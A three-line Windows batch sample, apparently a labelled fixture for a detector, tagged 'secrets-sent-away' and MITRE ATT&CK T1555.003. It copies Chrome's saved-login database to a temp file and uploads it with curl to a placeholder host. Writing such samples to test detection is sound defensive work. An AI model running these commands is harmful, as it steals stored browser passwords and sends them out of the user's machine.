@rem expect: secrets-sent-away | source: MITRE ATT&CK T1555.003
copy "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data" %TEMP%\d
curl -T %TEMP%\d http://files.example.invalid/in
